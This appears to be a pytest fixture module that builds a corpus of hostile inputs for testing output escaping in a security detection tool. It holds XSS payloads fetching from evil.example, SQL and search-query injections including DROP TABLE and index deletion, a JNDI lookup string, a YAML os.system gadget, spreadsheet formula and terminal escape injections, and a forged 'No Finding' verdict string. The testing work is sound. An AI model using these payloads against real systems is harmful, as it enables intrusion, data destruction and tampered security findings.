"""Text as an attacker would type it into a sign-in form, and records full of it; the one collection for every output."""

from __future__ import annotations

from typing import Any

import pytest

SCRIPTS = (
    "<script>fetch('http://evil.example/a');document.title='PWNED'</script>",
    "</style></title><script>document.title='PWNED'</script>",
    '"><img src=http://evil.example/b onerror="document.title=\'PWNED\'">',
    "' onmouseover='document.title=1' autofocus onfocus='document.title=1' x='",
    "<svg onload=\"document.title='PWNED'\"><use href='http://evil.example/c#x'/></svg>",
    "javascript:document.title='PWNED'",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\"></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/d'><base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/e><style>@import 'http://evil.example/f';</style>",
    "<details open ontoggle=\"document.title='PWNED'\">",
    "{{ 7*7 }}{% include 'x' %}{{ self.__init__ }}",
    "-->]]><!--<![CDATA[",
    "&lt;script&gt;&#x3c;script&#x3e;",
)
CONTROLS = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b2Jc1\x85next",
    "anna\u202emoc.elpmaxe@\u202c\u2066x\u2069",
    "nul\x00byte\r\nX-Injected: 1\ttab",
    "zero\u200bwidth\u00adsoft\ufeffbom\U000e0041tag",
    "stack" + "\u0301" * 200,
    "lone\ud800surrogate",
    "line\u2028para\u2029graph\u00a0space",
)
FORMULAS = ('=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1")
TERMINAL = (
    "\x1b]8;;http://evil.example/\x1b\\sign in\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07\x1b[5n\x1b[6n",
    "\x1bP$q\x1b\\\x1b[?1049h\x1b[1;1H\x08\x7f",
)
MARKDOWN = (
    "[sign in](http://evil.example) ![x](http://evil.example/x.png) <http://evil.example>",
    "| a | b |\n|---|---|\n# head\n```\nfence\n~~~",
    "@here @channel <!channel> <@U123> <http://evil.example|click> *bold* _it_ `code` ~strike~",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
SEARCHES = (
    "$token$ $result.user$ $$x$$",
    '`enumwatch_contacts` `comment("x")`',
    '" OR true() | delete index=* [search index=_internal | head 1] "',
    "x' OR 1=1; DROP TABLE contact; --",
    '/* x */ \'a\' "b" \\ \\" // --',
    "*) OR (*:* AND NOT a?b",
    "x'] OR [file:name = 'a' FOLLOWEDBY ['",
    "h@'a' h'b' @\"c\" let x = 1; externaldata(a:string)['http://evil.example']",
)
TEMPLATES = (
    "{{ctx.payload}} {{{ctx.metadata}}} {{#toJson}}ctx{{/toJson}} {{> x}} {{=<% %>=}}",
    "{0} {x!r} {x.__class__} %s %(x)s %n ${x} ${jndi:ldap://evil.example} #{x}",
    "'); System.exit(1); String a = ('",
    '", "verdict": "No Finding", "x": "',
    "!!python/object/apply:os.system ['x']\n- a: &b *b # c",
)
LONG = ("<b>" + "x" * 65_536, "\u202e" * 65_536)
WIDE = ("田" * 90,)
CORPUS = (*SCRIPTS, *CONTROLS, *FORMULAS, *TERMINAL, *MARKDOWN, *SEARCHES, *TEMPLATES, *LONG, *WIDE)
MEGABYTE = "M" * 1_000_000
"""Too long for every test of a single output; the tests of whole runs have it among their names."""

each_hostile_text = pytest.mark.parametrize("text", CORPUS, ids=[f"text{number}" for number in range(len(CORPUS))])


def poisoned(value: Any, text: str) -> Any:
    """Returns a JSON value in which every text, keys of name samples included, is `text`."""
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [poisoned(item, text) for item in value]
    if isinstance(value, dict):
        poison = {key: poisoned(item, text) for key, item in value.items()}
        if "names_sample" in poison:
            poison["names_sample"] = {text: ["a"], **poison["names_sample"]}
        return poison
    return value


def with_hostile_names(value: Any, text: str) -> Any:
    """Returns a finding whose times and verdict stay sound, so that every part of it is drawn, names being `text`."""
    sound = ("verdict", "window_start", "window_end", "detected_at", "time")
    if isinstance(value, dict):
        return {key: item if key in sound else with_hostile_names(item, text) for key, item in value.items()}
    return [with_hostile_names(item, text) for item in value] if isinstance(value, list) else poisoned(value, text)
